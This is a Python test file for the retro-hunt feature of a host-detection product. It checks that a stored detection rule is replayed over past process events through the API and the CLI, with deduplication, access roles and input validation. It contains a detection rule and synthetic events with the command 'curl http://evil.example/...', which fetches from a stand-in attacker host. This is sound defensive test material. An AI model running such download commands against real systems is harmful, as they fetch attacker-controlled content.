"""Retro-hunt over the collector's stored events: every event of the range and hosts is matched
once with the same engine, matches are stored as marked alerts (not twice on a second run), and
the API and `aurora hunt` refuse what cannot be hunted with a clear reason."""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from api.apienv import SENSOR, Env, launch, seed
from aurora.collector import retrohunt
from aurora.collector.retrohunt import HuntJob, run_hunt, single_rule_engine
from aurora.collector.store.base import HostRecord, IncomingBatch
from aurora.collector.store.sqlite import SQLiteStore
from aurora.config.detection import DetectionConfig
from aurora.detection.rules import load_rules

RULE = """title: Download from the evil domain
id: 00000000-0000-0000-0000-00000000e7e1
level: high
tags:
    - attack.t1105
logsource:
    product: linux
    category: process_creation
detection:
    s:
        CommandLine|contains: evil.example
    condition: s
"""
RULE_ID = "00000000-0000-0000-0000-00000000e7e1"


def rule() -> Any:
    return load_rules([], {}, [(None, RULE)]).rules[0]


def add_host(store: SQLiteStore, sensor: str, name: str, t: int) -> None:
    store.register_host(
        HostRecord(
            sensor_id=sensor,
            hostname=name,
            os_name="Debian",
            os_version="12",
            enrolled_ms=t,
            last_seen_ms=t,
            connected=True,
            health="ok",
            isolation="none",
        )
    )


def hunt(store: SQLiteStore, since: int, until: int, sensors: list[str] | None) -> HuntJob:
    job = HuntJob("t", RULE_ID, "t", since, until, sensors, "tester")
    return run_hunt(job, store, single_rule_engine(rule(), DetectionConfig()))


def test_every_event_in_range_is_matched_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(retrohunt, "WINDOW_LIMIT", 50)  # many windows, halved and widened
    store = SQLiteStore(tmp_path / "aurora.db")
    t0 = 1_790_000_000_000
    add_host(store, "s-a", "web-a", t0)
    add_host(store, "s-b", "web-b", t0)
    events = []
    for i in range(600):
        bad = i % 50 == 0
        cmd = f"curl http://evil.example/{i}" if bad else f"curl http://ok.example/{i}"
        events.append(launch(1000 + i, 1, "curl", t0 + i * 1000, cmd))
    burst = [
        launch(5000 + i, 1, "curl", t0 + 700_000, f"curl evil.example/{i}") for i in range(120)
    ]
    store.ingest([IncomingBatch("s-a", 1, events + burst, received_ms=t0)])
    store.ingest([IncomingBatch("s-b", 1, events, received_ms=t0)])

    job = hunt(store, t0, t0 + 800_000, ["s-a"])
    assert job.state == "done" and job.progress == 1.0, job.error
    assert job.scanned == 720 and job.matches == 12 + 120
    alerts = store.list_alerts(limit=10_000)
    assert len(alerts) == 132 and {a.sensor_id for a in alerts} == {"s-a"}
    a = alerts[0]
    assert (
        a.title.startswith("Retro-hunt: ") and a.finding["unmapped"]["retro_hunt"]["by"] == "tester"
    )
    assert "evil.example" in a.finding["evidences"][0]["data"]["process"]["cmd_line"]

    # the same range again: nothing new; a narrower range on both hosts: only web-b's are new
    again = hunt(store, t0, t0 + 800_000, ["s-a"])
    assert (again.matches, again.stored) == (132, 0)
    job = hunt(store, t0 + 100_000, t0 + 300_000, None)
    # events 100, 150, 200, 250 and 300 s in (both ends included), on both hosts; web-b new
    assert job.scanned == 2 * 201 and (job.matches, job.stored) == (10, 5)
    assert len(store.list_alerts(limit=10_000)) == 137
    store.close()


def wait_done(client: Any, hunt_id: str) -> dict[str, Any]:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        job: dict[str, Any] = client.get(f"/api/v1/hunts/{hunt_id}").json()
        if job["state"] != "running":
            return job
        time.sleep(0.05)
    raise AssertionError("the hunt did not finish")


def test_api_hunt_with_an_uploaded_rule(env: Env) -> None:
    s = seed(env)
    analyst = env.client("analyst")
    started = analyst.post(
        "/api/v1/hunts", json={"yaml": RULE, "since_ms": s["t0"] - 1000, "hosts": ["web-1"]}
    )
    assert started.status_code == 202, started.text
    job = wait_done(analyst, started.json()["id"])
    assert job["state"] == "done" and job["scanned"] == len(s["events"])
    assert job["matches"] == job["stored"] == 1 and job["progress"] == 1.0
    assert job["sensor_ids"] == [SENSOR]
    assert [h["id"] for h in analyst.get("/api/v1/hunts").json()["items"]] == [job["id"]]
    alerts = analyst.get("/api/v1/alerts", params={"q": "Retro-hunt"}).json()["items"]
    assert [a["rule_uid"] for a in alerts] == [RULE_ID]
    audit = env.client("admin").get("/api/v1/audit", params={"action": "hunt.start"}).json()
    assert audit["items"][0]["actor"] == "analyst" and audit["items"][0]["target"] == RULE_ID


@pytest.mark.parametrize(
    ("body", "status", "says"),
    [
        ({"since_ms": 0}, 422, "either rule_id"),
        ({"rule_id": "x", "yaml": RULE, "since_ms": 0}, 422, "either rule_id"),
        ({"rule_id": "no-such-rule", "since_ms": 0}, 404, "no loaded rule"),
        ({"yaml": "title: broken\n", "since_ms": 0}, 422, "cannot be hunted"),
        ({"yaml": RULE, "since_ms": 10, "until_ms": 5}, 422, "since_ms is after"),
        ({"yaml": RULE, "since_ms": 0, "hosts": ["nowhere"]}, 404, "nowhere"),
    ],
)
def test_api_refuses_what_cannot_be_hunted(
    env: Env, body: dict[str, Any], status: int, says: str
) -> None:
    resp = env.client("analyst").post("/api/v1/hunts", json=body)
    assert resp.status_code == status and says in resp.text
    assert env.client("analyst").get("/api/v1/hunts").json()["items"] == []


def test_viewer_may_watch_but_not_start(env: Env) -> None:
    assert (
        env.client("viewer").post("/api/v1/hunts", json={"yaml": RULE, "since_ms": 0}).status_code
        == 403
    )
    assert env.client("viewer").get("/api/v1/hunts").status_code == 200


def aurora(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "aurora", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_cli_hunt(env: Env, tmp_path: Path) -> None:
    seed(env)
    rule_file = tmp_path / "rule.yml"
    rule_file.write_text(RULE)
    done = aurora(
        "hunt", rule_file, "--since", "1h", "--host", "web-1", "--state-dir", env.state_dir
    )
    assert done.returncode == 0, done.stderr
    assert "1 matches, 1 new retro-hunt alerts" in done.stdout and RULE_ID in done.stdout
    assert [a.title for a in env.store.list_alerts() if a.rule_uid == RULE_ID] == [
        "Retro-hunt: Download from the evil domain"
    ]
    again = aurora("hunt", rule_file, "--since", "1h", "--state-dir", env.state_dir)
    assert again.returncode == 0 and "1 matches, 0 new retro-hunt alerts" in again.stdout
    bad = aurora("hunt", "no-such-rule", "--since", "1h", "--state-dir", env.state_dir)
    assert bad.returncode == 2 and "neither a rule file nor a loaded rule" in bad.stderr
    assert len(bad.stderr.strip().splitlines()) == 1
    late = aurora("hunt", rule_file, "--since", "1h", "--until", "2h", "--state-dir", env.state_dir)
    assert late.returncode == 2 and "--since is after --until" in late.stderr
